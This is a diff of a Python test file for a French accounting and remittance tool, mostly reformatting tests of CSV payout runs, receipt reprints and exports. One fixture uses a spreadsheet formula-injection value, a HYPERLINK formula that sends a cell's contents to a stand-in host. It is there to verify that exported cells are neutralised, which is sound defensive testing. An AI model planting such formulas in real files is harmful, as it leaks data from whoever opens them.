@@ -18,11 +18,11 @@ from clerc_tui.errors import InvalidInput
 from clerc_tui.models import LedgerEntry, RemittanceRun
 from clerc_tui.models.db import close_database, database, init_database, open_database
 from clerc_tui.models.ledger import REMITTANCE
+from clerc_tui.rules.text import spreadsheet_safe
 from clerc_tui.services import ledger, remittances
 from clerc_tui.services.context import identify, os_login
 from clerc_tui.services.dossier_input import CreditorInput
 from clerc_tui.services.dossiers import create_dossier
-from clerc_tui.rules.text import spreadsheet_safe
 from tests.conftest import TODAY, make_input
 
 CLERC = Path(sys.executable).parent / "clerc"
@@ -31,17 +31,31 @@ IBAN = "FR7630004000310001234567865"
 
 def _clerc(home: Path, *args):
     env = {k: v for k, v in os.environ.items() if k != "CLERC_DATABASE"}
-    env.update({"XDG_DATA_HOME": str(home / "data"), "XDG_STATE_HOME": str(home / "state"),
-                "XDG_CONFIG_HOME": str(home / "config")})
-    return subprocess.run([str(CLERC), *args], capture_output=True, text=True, env=env, timeout=120,
-                          stdin=subprocess.DEVNULL)
+    env.update(
+        {
+            "XDG_DATA_HOME": str(home / "data"),
+            "XDG_STATE_HOME": str(home / "state"),
+            "XDG_CONFIG_HOME": str(home / "config"),
+        }
+    )
+    return subprocess.run(
+        [str(CLERC), *args], capture_output=True, text=True, env=env, timeout=120, stdin=subprocess.DEVNULL
+    )
 
 
 def _dossier(actor, name: str, iban: str, amount: str):
     creditor = CreditorInput(kind="morale", is_individual=False, activity="bailleur", name=name, iban=iban)
     dossier = create_dossier(actor, make_input(new_creditor=creditor), TODAY)
-    ledger.record_payment(actor, dossier.id, on=TODAY, amount=amount, mode="virement", payer="Mme Lefèvre",
-                          bank_reference="VIR 42", today=TODAY)
+    ledger.record_payment(
+        actor,
+        dossier.id,
+        on=TODAY,
+        amount=amount,
+        mode="virement",
+        payer="Mme Lefèvre",
+        bank_reference="VIR 42",
+        today=TODAY,
+    )
     return dossier
 
 
@@ -53,8 +67,10 @@ def _payout_base(path: Path, *, with_iban_less: bool = True):
     init_database(str(path))
     add_user(os_login(), "Claire Martin", "comptable")  # the accounts run the reversements
     actor = identify()
-    dossiers = [_dossier(actor, "SCI Les Tilleuls", IBAN, "100"),
-                _dossier(actor, '=HYPERLINK("http://x.example/?"&A1)', IBAN, "100")]
+    dossiers = [
+        _dossier(actor, "SCI Les Tilleuls", IBAN, "100"),
+        _dossier(actor, '=HYPERLINK("http://x.example/?"&A1)', IBAN, "100"),
+    ]
     if with_iban_less:
         dossiers.append(_dossier(actor, "Bailleur Sans Compte", "", "100"))
     close_database()
@@ -63,9 +79,11 @@ def _payout_base(path: Path, *, with_iban_less: bool = True):
 
 def _counts(path: Path) -> tuple[int, int, int]:
     with sqlite3.connect(path) as con:
-        return (con.execute("SELECT COUNT(*) FROM ledger_entry").fetchone()[0],
-                con.execute("SELECT COUNT(*) FROM remittance_run").fetchone()[0],
-                con.execute("SELECT COUNT(*) FROM audit_entry").fetchone()[0])
+        return (
+            con.execute("SELECT COUNT(*) FROM ledger_entry").fetchone()[0],
+            con.execute("SELECT COUNT(*) FROM remittance_run").fetchone()[0],
+            con.execute("SELECT COUNT(*) FROM audit_entry").fetchone()[0],
+        )
 
 
 # --- 2. a payout run is all or nothing --------------------------------------------------
@@ -89,8 +107,9 @@ def test_unwritable_csv_records_nothing_and_names_path_and_cause(tmp_path, where
             pytest.skip("chattr +i is not available on this filesystem")
         target, cause = folder / "x.csv", "opération interdite"
     try:
-        result = _clerc(tmp_path, "--db", str(base), "--today", "26/11/2026", "reversements", "run",
-                        "--csv", str(target))
+        result = _clerc(
+            tmp_path, "--db", str(base), "--today", "26/11/2026", "reversements", "run", "--csv", str(target)
+        )
     finally:
         if where == "immutable_folder":
             subprocess.run(["chattr", "-i", str(target.parent)], check=True)
@@ -137,8 +156,7 @@ def test_run_holds_back_iban_less_creditor_neutralises_formulas_and_regenerates(
     base = tmp_path / "etude.db"
     tilleuls, formula, no_iban = _payout_base(base)
     target = tmp_path / "virements.csv"
-    result = _clerc(tmp_path, "--db", str(base), "--today", "26/11/2026", "reversements", "run",
-                    "--csv", str(target))
+    result = _clerc(tmp_path, "--db", str(base), "--today", "26/11/2026", "reversements", "run", "--csv", str(target))
     assert result.returncode == 0, result.stderr
     written = target.read_bytes()
     rows = list(csv.reader(io.StringIO(written.decode("utf-8")), delimiter=";"))
@@ -159,6 +177,7 @@ def test_run_holds_back_iban_less_creditor_neutralises_formulas_and_regenerates(
     run_id = RemittanceRun.select().get().id
     # The creditor's IBAN changes afterwards: the file of the run is still the one sent.
     from clerc_tui.models import Creditor
+
     Creditor.update(iban="FR7610107001011234567890129").where(Creditor.id == tilleuls.creditor_id).execute()
     close_database()
     again = tmp_path / "again.csv"
@@ -184,6 +203,7 @@ def test_run_made_before_m0012_is_rebuilt_without_empty_iban_lines(actor, tmp_pa
     paid = _dossier(actor, "SCI Les Tilleuls", IBAN, "100")
     old = _dossier(actor, "Bailleur Sans Compte", "", "100")
     from datetime import datetime
+
     run = RemittanceRun.create(run_on=TODAY, total=20000, entries=2, created_by="ancien", created_at=datetime.now())
     for d in (paid, old):
         ledger.record_remittance(actor, d.id, on=TODAY, amount=D(100), run_id=run.id, today=TODAY)
@@ -193,10 +213,20 @@ def test_run_made_before_m0012_is_rebuilt_without_empty_iban_lines(actor, tmp_pa
     assert [(r[2], r[5]) for r in rows[1:]] == [(IBAN, paid.reference)]
 
 
-@pytest.mark.parametrize("cell, expected", [
-    ("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
-    ("SCI Les Tilleuls", "SCI Les Tilleuls"), ("100,00", "100,00"), ("", ""), ("a=b", "a=b"),
-])
+@pytest.mark.parametrize(
+    "cell, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 6", "'+33 6"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("SCI Les Tilleuls", "SCI Les Tilleuls"),
+        ("100,00", "100,00"),
+        ("", ""),
+        ("a=b", "a=b"),
+    ],
+)
 def test_spreadsheet_safe(cell, expected):
     assert spreadsheet_safe(cell) == expected
 
@@ -213,11 +243,21 @@ def test_spreadsheet_safe_never_starts_a_formula_and_only_adds_a_quote(cell):
 
 def _interest_dossier(actor):
     from datetime import date
+
     # 3,65 % a year over 365 days on 10 000 € = 1,00 € a day from 01/11/2026.
-    return create_dossier(actor, make_input(title_kind="jugement", title_date=date(2026, 11, 1),
-                                            interest_kind="contractual", contractual_rate=D("3.65"),
-                                            contractual_day_basis="365", interest_from=date(2026, 11, 1),
-                                            claims={"principal": D("10000")}), TODAY)
+    return create_dossier(
+        actor,
+        make_input(
+            title_kind="jugement",
+            title_date=date(2026, 11, 1),
+            interest_kind="contractual",
+            contractual_rate=D("3.65"),
+            contractual_day_basis="365",
+            interest_from=date(2026, 11, 1),
+            claims={"principal": D("10000")},
+        ),
+        TODAY,
+    )
 
 
 def test_receipt_reprints_as_issued_after_later_entries_the_same_day(actor, db_path):
@@ -225,8 +265,9 @@ def test_receipt_reprints_as_issued_after_later_entries_the_same_day(actor, db_p
     from clerc_tui.services.documents import document_by_number, document_of
 
     dossier = _interest_dossier(actor)
-    pay = ledger.record_payment(actor, dossier.id, on=TODAY, amount="50", mode="cheque", payer="Mme Lefèvre",
-                                today=TODAY)
+    pay = ledger.record_payment(
+        actor, dossier.id, on=TODAY, amount="50", mode="cheque", payer="Mme Lefèvre", today=TODAY
+    )
     original = document_text(document_of(pay))
     # 01/11 → 26/11: 25 days × 1,00 € = 25,00 € of interest, no frais yet: the 50 € go
     # 0,00 frais, 25,00 intérêts, 25,00 principal; left 10 000 + 25 − 50 = 9 975,00 €.
@@ -260,8 +301,9 @@ def test_rejected_cheque_reprints_annule_and_other_reversals_say_why(actor):
     text = document_text(document_by_number(cheque.document_number))
     # The rejection date is the reversal's (26/11), not the payment's (20/11).
     assert "*** DUPLICATA ***\n*** ANNULÉ — chèque rejeté le 26/11/2026 ***\nReçu n°" in text
-    assert "ANNULÉ — paiement annulé le 26/11/2026 (motif : erreur de dossier)" in \
-        document_text(document_by_number(transfer.document_number))
+    assert "ANNULÉ — paiement annulé le 26/11/2026 (motif : erreur de dossier)" in document_text(
+        document_by_number(transfer.document_number)
+    )
     assert "ANNULÉ" not in document_text(document_by_number(kept.document_number))
 
 
@@ -279,8 +321,12 @@ def test_invoice_reprints_as_issued_and_says_its_credit_note(actor, sample_dossi
     assert reprint.startswith("Étude Martin\nLyon\n\n") and "SCP Martin" not in reprint
     # The tariff's remarks stay at the foot, never in the étude's header.
     assert "\n* Tarif à confirmer" in reprint
-    assert reprint.replace("*** DUPLICATA ***\n", "").replace(
-        f"*** ANNULÉE par l'avoir {avoir.document_number} du 26/11/2026 ***\n", "") == original
+    assert (
+        reprint.replace("*** DUPLICATA ***\n", "").replace(
+            f"*** ANNULÉE par l'avoir {avoir.document_number} du 26/11/2026 ***\n", ""
+        )
+        == original
+    )
     credit = document_text(document_by_number(avoir.document_number))
     assert "*** DUPLICATA ***" in credit and "annule la facture " + fee.document_number in credit
     assert "ANNULÉE" not in credit
@@ -317,12 +363,21 @@ def test_identical_batch_lines_are_refused_until_confirmed(actor, sample_dossier
     def line(amount, mode="cheque", ref="CHQ 0042"):
         return payments.check_line(sample_dossier.reference, amount, "26/11/2026", mode, ref, today=TODAY)
 
-    batch = [line("50"), line("50", ref="chq  0042"), line("50", mode="virement"), line("50", ref="CHQ 43"),
-             line("60"), line("50")]
+    batch = [
+        line("50"),
+        line("50", ref="chq  0042"),
+        line("50", mode="virement"),
+        line("50", ref="CHQ 43"),
+        line("60"),
+        line("50"),
+    ]
     # Same dossier, amount, mode and reference (case and spaces aside): lines 1, 2 and 6.
     assert payments.duplicate_groups(batch) == [(1, 2, 6)]
-    with pytest.raises(InvalidInput, match=r"lignes 1, 2 et 6 identiques .*50,00.*Chèque, réf\. CHQ 0042.*"
-                                           r"rien n'a été enregistré"):
+    with pytest.raises(
+        InvalidInput,
+        match=r"lignes 1, 2 et 6 identiques .*50,00.*Chèque, réf\. CHQ 0042.*"
+        r"rien n'a été enregistré",
+    ):
         payments.record_batch(actor, batch, today=TODAY)
     assert LedgerEntry.select().count() == 0
     kept, removed = payments.without_duplicates(batch)
@@ -334,13 +389,15 @@ def test_fec_export_to_an_unwritable_path_names_it_and_leaves_no_partial_file(tm
     base = tmp_path / "etude.db"
     _payout_base(base, with_iban_less=False)
     target = tmp_path / "absent" / "fec.txt"
-    result = _clerc(tmp_path, "--db", str(base), "export", "fec", "--from", "01/11/2026", "--to", "26/11/2026",
-                    "--out", str(target))
+    result = _clerc(
+        tmp_path, "--db", str(base), "export", "fec", "--from", "01/11/2026", "--to", "26/11/2026", "--out", str(target)
+    )
     assert result.returncode == 2 and "Traceback" not in result.stderr
     assert f"Export FEC {target} non écrit : le dossier {target.parent} n'existe pas" in result.stderr
     good = tmp_path / "fec.txt"
-    result = _clerc(tmp_path, "--db", str(base), "export", "fec", "--from", "01/11/2026", "--to", "26/11/2026",
-                    "--out", str(good))
+    result = _clerc(
+        tmp_path, "--db", str(base), "export", "fec", "--from", "01/11/2026", "--to", "26/11/2026", "--out", str(good)
+    )
     assert result.returncode == 0 and good.read_text(encoding="utf-8").startswith("JournalCode|")
     assert [p.name for p in tmp_path.glob(".*.tmp")] == []
 
@@ -353,8 +410,9 @@ def test_held_back_creditor_is_paid_by_the_next_run_once_its_iban_is_recorded(tm
     assert first.returncode == 0 and no_iban.reference not in (tmp_path / "1.csv").read_text(encoding="utf-8")
     bad = _clerc(tmp_path, *db, "reversements", "iban", "bailleur sans", "FR76 3000 4000 3100 0123 4567 866")
     assert bad.returncode == 2 and "clé de contrôle" in bad.stderr and "Traceback" not in bad.stderr
-    good = _clerc(tmp_path, *db, "reversements", "iban", "bailleur sans", "fr76 3000 4000 3100 0123 4567 865",
-                  "--bic", "bnpafrpp")
+    good = _clerc(
+        tmp_path, *db, "reversements", "iban", "bailleur sans", "fr76 3000 4000 3100 0123 4567 865", "--bic", "bnpafrpp"
+    )
     assert good.returncode == 0 and "Bailleur Sans Compte : IBAN FR76 3000 4000 3100 0123 4567 865" in good.stdout
     second = _clerc(tmp_path, *db, "reversements", "run", "--csv", str(tmp_path / "2.csv"))
     assert second.returncode == 0 and "ATTENTION" not in second.stderr
